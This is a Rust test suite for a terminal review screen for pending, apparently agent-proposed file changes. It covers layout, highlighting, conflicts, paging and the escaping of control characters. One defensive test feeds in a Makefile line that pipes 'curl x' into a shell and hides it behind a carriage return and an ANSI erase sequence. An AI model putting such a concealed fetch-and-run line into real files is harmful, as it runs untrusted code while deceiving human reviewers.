use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use ratatui::buffer::Buffer;
use ratatui::style::{Color, Modifier};

use super::*;
use crate::review::app::{App, Mode};
use crate::review::sample::two_actions;

const PLAIN: Theme = Theme { color: false };
const COLOR: Theme = Theme { color: true };

fn drawn(app: &App, theme: Theme) -> Buffer {
    let mut terminal = Terminal::new(TestBackend::new(80, 24)).unwrap();
    terminal.draw(|frame| draw(frame, app, theme)).unwrap();
    terminal.backend().buffer().clone()
}

/// The screen as text, one line per row, trailing spaces trimmed.
fn text(buffer: &Buffer) -> String {
    let width = usize::from(buffer.area.width);
    buffer
        .content
        .chunks(width)
        .map(|row| {
            let line: String = row.iter().map(|cell| cell.symbol()).collect();
            line.trim_end().to_owned()
        })
        .collect::<Vec<_>>()
        .join("\n")
}

fn press(app: &mut App, keys: &str) {
    for c in keys.chars() {
        let code = match c {
            '\n' => KeyCode::Enter,
            c => KeyCode::Char(c),
        };
        app.handle_key(KeyEvent::new(code, KeyModifiers::NONE));
    }
}

/// The cells of row `y` whose symbols spell `word`, found by its first occurrence.
fn cells_of<'a>(buffer: &'a Buffer, y: u16, word: &str) -> Vec<&'a ratatui::buffer::Cell> {
    let width = buffer.area.width;
    let row: Vec<&ratatui::buffer::Cell> = (0..width).map(|x| &buffer[(x, y)]).collect();
    let line: String = row.iter().map(|cell| cell.symbol()).collect();
    let start = line
        .find(word)
        .unwrap_or_else(|| panic!("{word:?} not on row {y}: {line}"));
    let start = line[..start].chars().count();
    row[start..start + word.chars().count()].to_vec()
}

fn row_of(buffer: &Buffer, needle: &str) -> u16 {
    let screen = text(buffer);
    let index = screen
        .lines()
        .position(|line| line.contains(needle))
        .unwrap_or_else(|| panic!("{needle:?} not on screen:\n{screen}"));
    u16::try_from(index).unwrap()
}

/// One snapshot test per case: the review of [`two_actions`] at 80×24, plain, after `keys`
/// (`\n` is Enter); the snapshot is named after the test.
macro_rules! screen_after_keys {
    ($($name:ident: $keys:expr;)*) => {$(
        #[test]
        fn $name() {
            let mut app = App::new(two_actions());
            press(&mut app, $keys);
            insta::assert_snapshot!(text(&drawn(&app, PLAIN)));
        }
    )*};
}

screen_after_keys! {
    the_review_at_80_by_24_shows_header_files_hunks_and_footer: "";
    a_rejected_hunk_shows_its_reason_and_the_file_list_counts_it: "jrcallers use foo\n";
    the_apply_prompt_says_how_many_hunks_land: "J aonly lib";
    question_mark_shows_every_key_of_the_contract: "?";
}

#[test]
fn the_footer_fits_80_columns() {
    for line in FOOTER {
        assert!(line.chars().count() <= 80, "{line}");
    }
}

#[test]
fn changed_words_are_highlighted_and_the_rest_of_the_line_is_not() {
    let app = App::new(two_actions());
    for theme in [PLAIN, COLOR] {
        let buffer = drawn(&app, theme);
        let removed = row_of(&buffer, "-pub fn foo(x: u32)");
        let word = theme.word_style(LineKind::Removed).add_modifier;
        assert!(!word.is_empty());
        for cell in cells_of(&buffer, removed, "foo(x:") {
            assert!(cell.modifier.contains(word), "{theme:?} {cell:?}");
        }
        for cell in cells_of(&buffer, removed, "pub") {
            assert!(!cell.modifier.contains(word), "{theme:?} {cell:?}");
        }
        let added = row_of(&buffer, "+pub fn bar(x: u32)");
        for cell in cells_of(&buffer, added, "bar(x:") {
            assert!(cell.modifier.contains(word), "{theme:?} {cell:?}");
        }
    }
}

#[test]
fn without_color_no_cell_has_a_color_and_with_color_additions_are_green() {
    let app = App::new(two_actions());
    let plain = drawn(&app, PLAIN);
    assert!(
        plain
            .content
            .iter()
            .all(|cell| cell.fg == Color::Reset && cell.bg == Color::Reset)
    );
    let colored = drawn(&app, COLOR);
    let added = row_of(&colored, "+pub fn bar");
    assert!(
        cells_of(&colored, added, "pub")
            .iter()
            .all(|cell| cell.fg == Color::Green)
    );
}

#[test]
fn the_hunk_under_the_cursor_is_marked_and_rejected_lines_are_struck_through() {
    let mut app = App::new(two_actions());
    press(&mut app, "j ");
    let buffer = drawn(&app, PLAIN);
    assert!(text(&buffer).contains("▶ src/lib.rs#2 @@ -20,5 +20,5 @@  ✗ rejected"));
    assert!(text(&buffer).contains("  src/lib.rs#1 @@ -1,4 +1,4 @@  kept"));
    let rejected = row_of(&buffer, "+    bar(a);");
    assert!(
        cells_of(&buffer, rejected, "bar")
            .iter()
            .all(|cell| cell.modifier.contains(Modifier::CROSSED_OUT))
    );
}

#[test]
fn tabs_and_control_characters_cannot_reach_the_terminal() {
    assert_eq!(printable("\tx\u{1b}[2J"), "    x\u{241b}[2J");
}

#[test]
fn a_file_changed_since_the_preview_says_so_instead_of_showing_hunks() {
    let mut actions = two_actions();
    let file = &mut actions[0].files[1];
    file.stale = true;
    file.hunks.clear();
    let mut app = App::new(actions);
    press(&mut app, "J");
    let screen = text(&drawn(&app, PLAIN));
    assert!(
        screen.contains("▸ src/main.rs  changed since the preview"),
        "{screen}"
    );
    assert!(
        screen
            .contains("The file changed since the preview: its hunks cannot be shown or applied."),
        "{screen}"
    );
}

#[test]
fn a_conflicting_file_shows_both_sides_of_each_hunk_and_the_keys_that_settle_it() {
    let mut actions = two_actions();
    let file = &mut actions[0].files[1];
    file.stale = true;
    file.hunks.clear();
    file.conflicts = vec![crate::review::model::ConflictView {
        current_line: 2,
        current: "X\n".to_owned(),
        preview_line: 2,
        preview: "B\n".to_owned(),
        base: "b\n".to_owned(),
    }];
    let mut app = App::new(actions);
    press(&mut app, "J");
    let screen = text(&drawn(&app, PLAIN));
    for expected in [
        "▸ src/main.rs  conflicts since the preview (1)",
        "C: take the current lines   P: take the preview's",
        "conflict 1: base:",
        "  | b",
        "current (line 2):",
        "  | X",
        "preview (line 2):",
        "  | B",
    ] {
        assert!(screen.contains(expected), "{expected}\n{screen}");
    }
}

#[test]
fn a_long_hunk_under_the_cursor_starts_at_the_top_and_pages_scroll_through_it() {
    let mut actions = two_actions();
    let context: Vec<String> = (1..=30).map(|n| format!(" line {n}")).collect();
    let mut lines: Vec<&str> = context.iter().map(String::as_str).collect();
    lines.push("-old");
    lines.push("+new");
    actions[0].files[0].hunks[1] =
        crate::review::sample::hunk("src/lib.rs", 2, "@@ -20,31 +20,31 @@", &lines);
    let mut app = App::new(actions);
    press(&mut app, "j");
    let buffer = drawn(&app, PLAIN);
    // The diff starts right under the rule, with the cursor hunk's header.
    assert_eq!(
        row_of(&buffer, "▶ src/lib.rs#2"),
        row_of(&buffer, "─── src/lib.rs") + 1
    );
    // PageDown scrolls within it, PageUp back.
    app.handle_key(KeyEvent::new(KeyCode::PageDown, KeyModifiers::NONE));
    assert!(!text(&drawn(&app, PLAIN)).contains("▶ src/lib.rs#2"));
    app.handle_key(KeyEvent::new(KeyCode::PageUp, KeyModifiers::NONE));
    assert!(text(&drawn(&app, PLAIN)).contains("▶ src/lib.rs#2"));
}

#[test]
fn tiny_terminals_draw_without_panicking() {
    let mut app = App::new(two_actions());
    press(&mut app, "aabc");
    for (width, height) in [(1, 1), (10, 3), (80, 5), (20, 24)] {
        for mode in [app.mode.clone(), Mode::Help] {
            app.mode = mode;
            let mut terminal = Terminal::new(TestBackend::new(width, height)).unwrap();
            terminal.draw(|frame| draw(frame, &app, COLOR)).unwrap();
        }
    }
}

#[test]
fn a_carriage_return_and_escape_in_a_line_are_drawn_visibly_and_a_foreign_action_is_marked() {
    let mut actions = two_actions();
    actions[0] = ActionView {
        id: "pending-action:write:9".to_owned(),
        version: "v9".to_owned(),
        label: "Write: Makefile".to_owned(),
        origin: "agent".to_owned(),
        age: "1m ago".to_owned(),
        files: vec![crate::review::sample::file(
            "Makefile",
            FileKind::Create,
            vec![crate::review::sample::hunk(
                "Makefile",
                1,
                "@@ -0,0 +1 @@",
                &["+curl x | sh \r\u{1b}[2K+make all"],
            )],
        )],
        note: None,
        foreign: true,
        rewrites: Vec::new(),
    };
    let app = App::new(actions);
    let screen = text(&drawn(&app, PLAIN));
    assert!(screen.contains("+curl x | sh ␍␛[2K+make all"), "{screen}");
    assert!(
        !screen.contains('\r') && !screen.contains('\u{1b}'),
        "{screen}"
    );
    assert!(screen.contains("FOREIGN"), "{screen}");
}
